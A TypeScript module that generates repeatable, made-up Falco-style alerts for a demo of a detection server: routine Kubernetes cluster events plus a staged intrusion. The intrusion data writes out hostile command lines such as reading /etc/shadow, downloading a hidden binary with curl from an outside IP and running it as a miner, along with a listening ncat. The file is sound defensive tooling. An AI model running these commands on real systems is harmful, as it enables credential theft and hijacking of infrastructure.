// Alerts for trying the server out: what a shop's cluster tells in a day, and an intrusion in the middle of it.
// Made up, in the form in which Falco writes them; every call with the same numbers gives the same. Used by `serve demo`.
import type { Priority } from '../../detect/priority.ts'

/** What happens, and how it is told. `{…}` are fields. */
interface Happening {
  readonly rule: string
  readonly priority: Priority
  readonly source?: string
  readonly text: string
  readonly tags: readonly string[]
  readonly fields: Readonly<Record<string, string | number>>
  /** How often, against the others. */
  readonly weight: number
}

const PODS = [
  ['shop', 'api', 'registry.example/shop/api'],
  ['shop', 'checkout', 'registry.example/shop/checkout'],
  ['shop', 'images', 'registry.example/shop/images'],
  ['data', 'postgres', 'docker.io/library/postgres'],
  ['data', 'redis', 'docker.io/library/redis'],
  ['ci', 'runner', 'registry.example/ci/runner'],
  ['monitoring', 'grafana', 'docker.io/grafana/grafana'],
] as const

const HOSTS = ['ip-10-0-31-17', 'ip-10-0-31-44', 'ip-10-0-32-9', 'ip-10-0-33-101'] as const

const DAY: readonly Happening[] = [
  {
    rule: 'Contact K8S API Server From Container',
    priority: 'Notice',
    text: 'Unexpected connection to K8s API Server from container | connection={fd.name} process={proc.name} command={proc.cmdline}',
    tags: ['container', 'network', 'k8s', 'mitre_discovery', 'T1565'],
    fields: {
      'proc.name': 'curl',
      'proc.cmdline': 'curl -k https://10.96.0.1/version',
      'fd.name': '10.0.31.17:41822->10.96.0.1:443',
    },
    weight: 6,
  },
  {
    rule: 'Read sensitive file untrusted',
    priority: 'Warning',
    text: 'Sensitive file opened for reading by non-trusted program | file={fd.name} process={proc.name} command={proc.cmdline}',
    tags: ['container', 'filesystem', 'mitre_credential_access', 'T1555'],
    fields: { 'proc.name': 'backup', 'proc.cmdline': 'backup --all /etc', 'fd.name': '/etc/shadow' },
    weight: 8,
  },
  {
    rule: 'Terminal shell in container',
    priority: 'Notice',
    text: 'A shell was spawned in a container with an attached terminal | process={proc.name} parent=runc command={proc.cmdline} terminal=34816',
    tags: ['container', 'shell', 'mitre_execution', 'T1059'],
    fields: { 'proc.name': 'bash', 'proc.cmdline': 'bash', 'proc.tty': 34816 },
    weight: 3,
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    priority: 'Notice',
    text: 'Redirect stdout/stdin to network connection | connection={fd.name} process={proc.name} command={proc.cmdline}',
    tags: ['container', 'network', 'mitre_execution', 'T1059'],
    fields: {
      'proc.name': 'ncat',
      'proc.cmdline': 'ncat -lk 8080',
      'fd.name': '10.0.32.9:8080->10.0.31.44:50312',
    },
    weight: 1,
  },
  {
    rule: 'Packet socket created in container',
    priority: 'Notice',
    text: 'Packet socket was created in a container | process={proc.name} command={proc.cmdline}',
    tags: ['container', 'network', 'mitre_credential_access', 'T1557.002'],
    fields: { 'proc.name': 'tcpdump', 'proc.cmdline': 'tcpdump -i eth0 -c 20' },
    weight: 1,
  },
  {
    rule: 'Secret read',
    priority: 'Notice',
    source: 'k8s_audit',
    text: 'Secret read (user={ka.user.name} verb=get secret={ka.target.name} ns={ka.target.namespace})',
    tags: ['k8s', 'T1552'],
    fields: {
      'ka.user.name': 'jürgen@shop.example',
      'ka.target.name': 'postgres-credentials',
      'ka.target.namespace': 'data',
      'ka.verb': 'get',
    },
    weight: 2,
  },
  {
    rule: 'Port of a pod forwarded',
    priority: 'Notice',
    source: 'k8s_audit',
    text: 'Port of a pod forwarded (user={ka.user.name} pod={ka.target.name} ns={ka.target.namespace})',
    tags: ['k8s', 'T1572'],
    fields: {
      'ka.user.name': 'mei@shop.example',
      'ka.target.name': 'grafana-0',
      'ka.target.namespace': 'monitoring',
      'ka.verb': 'create',
    },
    weight: 1,
  },
  {
    rule: 'Falco internal: syscall event drop',
    priority: 'Debug',
    source: 'internal',
    text: 'Falco internal: syscall event drop. {n_drops} system calls dropped in last second.',
    tags: [],
    fields: { n_drops: 12, n_evts: 48211 },
    weight: 1,
  },
]

/** One after the other, from the first foot in the door. */
const INTRUSION: readonly Happening[] = [
  {
    rule: 'Run shell untrusted',
    priority: 'Notice',
    text: 'Shell spawned by untrusted binary | parent=node process={proc.name} command={proc.cmdline}',
    tags: ['container', 'process', 'shell', 'mitre_execution', 'T1059.004'],
    fields: {
      'proc.name': 'sh',
      'proc.cmdline': 'sh -c id;uname -a',
      'proc.pname': 'node',
      'user.name': 'node',
      'proc.pid': 48113,
    },
    weight: 1,
  },
  {
    rule: 'Read sensitive file untrusted',
    priority: 'Warning',
    text: 'Sensitive file opened for reading by non-trusted program | file={fd.name} process={proc.name} command={proc.cmdline}',
    tags: ['container', 'filesystem', 'mitre_credential_access', 'T1555'],
    fields: {
      'proc.name': 'cat',
      'proc.cmdline': 'cat /etc/shadow',
      'fd.name': '/etc/shadow',
      'user.name': 'node',
      'proc.pid': 48120,
    },
    weight: 1,
  },
  {
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    priority: 'Notice',
    text: 'Ingress remote file copy tool launched in container | process={proc.name} command={proc.cmdline}',
    tags: ['container', 'network', 'process', 'mitre_command_and_control', 'TA0011'],
    fields: {
      'proc.name': 'curl',
      'proc.cmdline': 'curl -so /tmp/.x http://198.51.100.23/x',
      'user.name': 'node',
      'proc.pid': 48131,
    },
    weight: 1,
  },
  {
    rule: 'Drop and execute new binary in container',
    priority: 'Critical',
    text: 'Executing binary not part of base image | process={proc.name} exepath={proc.exepath} command={proc.cmdline}',
    tags: ['container', 'process', 'mitre_persistence', 'TA0003'],
    fields: {
      'proc.name': '.x',
      'proc.exepath': '/tmp/.x',
      'proc.cmdline': '/tmp/.x --pool 203.0.113.77:3333',
      'user.name': 'node',
      'proc.pid': 48137,
    },
    weight: 1,
  },
  {
    rule: 'Shell in a pod',
    priority: 'Warning',
    source: 'k8s_audit',
    text: 'Shell in a pod (user={ka.user.name} pod={ka.target.name} ns={ka.target.namespace} command=sh)',
    tags: ['k8s', 'T1609'],
    fields: {
      'ka.user.name': 'system:serviceaccount:shop:api',
      'ka.target.name': 'postgres-0',
      'ka.target.namespace': 'data',
      'ka.verb': 'create',
    },
    weight: 1,
  },
  {
    rule: 'Cluster given away',
    priority: 'Emergency',
    source: 'k8s_audit',
    text: 'Cluster given away (user={ka.user.name} binding={ka.target.name})',
    tags: ['k8s', 'T1098'],
    fields: {
      'ka.user.name': 'system:serviceaccount:shop:api',
      'ka.target.name': 'metrics-reader-admin',
      'ka.verb': 'create',
    },
    weight: 1,
  },
]

/** Alerts one by one, repeatable: the same `seed` gives the same. */
export class DemoAlerts {
  #state: number

  constructor(seed: number) {
    this.#state = seed >>> 0
  }

  /** Lines of a day that ends at `end` (milliseconds since 1970), oldest first: `count` everyday alerts and an intrusion. */
  day(end: number, count: number): string[] {
    const begin = end - 86_400_000
    const told = Array.from({ length: count }, () => this.#everyday(begin + this.#below(86_400_000)))
    const intruded = INTRUSION.map((happening, step) =>
      this.#tell(happening, end - 2_400_000 + step * 47_000, PODS[0], HOSTS[1]),
    )
    return [...told, ...intruded].sort((a, b) => a.at - b.at).map(({ line }) => line)
  }

  /** An everyday alert of that moment. */
  next(at: number): string {
    return this.#everyday(at).line
  }

  #everyday(at: number): Told {
    const drawn = this.#below(DAY.reduce((sum, { weight }) => sum + weight, 0))
    let sum = 0
    const happening = DAY.find(({ weight }) => {
      sum += weight
      return drawn < sum
    })
    return this.#tell(
      happening ?? (DAY[0] as Happening),
      at,
      PODS[this.#below(PODS.length)],
      HOSTS[this.#below(HOSTS.length)],
    )
  }

  #tell(
    { rule, priority, source = 'syscall', text, tags, fields }: Happening,
    at: number,
    [namespace, app, image] = PODS[0] as (typeof PODS)[number],
    host: string = HOSTS[0],
  ): Told {
    const time = `${new Date(at).toISOString().slice(0, -1)}${String(this.#below(1_000_000)).padStart(6, '0')}Z`
    const pod = `${app}-${namespace === 'data' ? '0' : `6d5b9c7f4-${'bcdfghjklm'.slice(this.#below(5)).slice(0, 5)}`}`
    const own =
      source === 'syscall'
        ? {
            'container.id': this.#hex(12),
            'container.name': app,
            'container.image.repository': image,
            'k8s.ns.name': namespace,
            'k8s.pod.name': pod,
            'user.name': 'root',
          }
        : {}
    const all: Record<string, string | number> = {
      'evt.time': `${BigInt(Math.trunc(at))}000000`,
      ...own,
      ...fields,
    }
    const output = text.replace(/\{([^}]+)\}/g, (_, name: string) => String(all[name] ?? '<NA>'))
    const line = JSON.stringify({
      hostname: host,
      output: `${time}: ${priority} ${output}`,
      output_fields: all,
      priority,
      rule,
      source,
      tags,
      time,
    })
    return { at, line }
  }

  #hex(length: number): string {
    return Array.from({ length }, () => this.#below(16).toString(16)).join('')
  }

  /** Marsaglia's xorshift: all that matters is that it is the same again. */
  #below(limit: number): number {
    let state = this.#state
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    this.#state = state >>> 0
    return this.#state % limit
  }
}

interface Told {
  readonly at: number
  readonly line: string
}
